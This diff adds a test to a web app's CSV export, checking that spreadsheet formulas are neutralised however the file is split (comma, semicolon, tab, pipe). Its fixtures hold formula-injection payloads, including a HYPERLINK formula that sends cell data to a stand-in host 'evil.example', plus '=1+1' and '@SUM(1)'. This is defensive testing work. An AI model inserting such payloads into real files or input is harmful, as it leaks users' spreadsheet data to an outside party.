@@ -119,6 +119,50 @@ def test_csv_neutralises_formulas_and_keeps_special_characters(app, client):
     assert rows[1][5] == "<b> & 😀 مرحبا"
 
 
+def test_csv_has_no_formula_however_a_spreadsheet_splits_it(app, client):
+    """Excel on Dutch Windows splits the lines on ";", not on the file's ",", and loses track
+    of the quotes: a title ";=1+1;", a text "a;=HYPERLINK(...)" or a formula on a later line of
+    a text must not start a cell there, nor for any reader splitting on ",", ";", tab or "|"."""
+    from .factories import make_contribution, make_process
+
+    link = '=HYPERLINK("https://evil.example/?"&A1;"Klik")'
+    with app.app_context():
+        process = make_process()
+        author = make_user(organisation=make_organisation(";Bos|Bouw", "business", "x"))
+        make_contribution(process, process.themes[0], author, title=";=1+1;",
+                          body=f"a;{link}")
+        make_contribution(process, process.themes[1], author, title="Kosten",
+                          body=f"Kost € 10,- per maand;-)\n- een punt\n+ nog een\n{link}\n"
+                               f'x,"@SUM(1)')
+        db.session.commit()
+        make_user("staff@example.nl", role="staff", locale="en")
+    login(client, "staff@example.nl")
+    page = client.get("/p/economie/export").get_data(as_text=True)
+    files = []
+    for _attempt in range(2):  # the same file every time
+        response = client.post("/p/economie/export", data={
+            "csrf_token": csrf_token(page), "format": "csv", "version": "public",
+            "language": "en"})
+        files.append(response.data.decode("utf-8-sig"))
+    assert files[0] == files[1]
+    text = files[0]
+    for separator in (",", ";", "\t", "|"):
+        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=separator)
+                 for cell in row]
+        # A reader that ignores quotes altogether: split every line on the separator.
+        pieces = [piece.lstrip('"') for line in text.splitlines()
+                  for piece in line.split(separator)]
+        for cell in cells + pieces:
+            assert cell[:1] not in ("=", "+", "-", "@"), (separator, cell)
+    # Read as written (","): every cell whole, the text changed only where a formula could start.
+    by_title = {row["title"]: row for row in csv.DictReader(io.StringIO(text))}
+    assert by_title["';'=1+1;"]["text"] == f"a;'{link}"
+    assert by_title["';'=1+1;"]["stakeholder"] == "';Bos|Bouw"
+    assert by_title["Kosten"]["text"] == (f"Kost € 10,'- per maand;'-)\n* een punt\n* nog een\n"
+                                          f"'{link}\nx,'\"@SUM(1)")
+    assert text.splitlines()[0].startswith('"stakeholder","organisation_kind",')
+
+
 def test_participants_cannot_export(client, app):
     from .factories import make_process
 
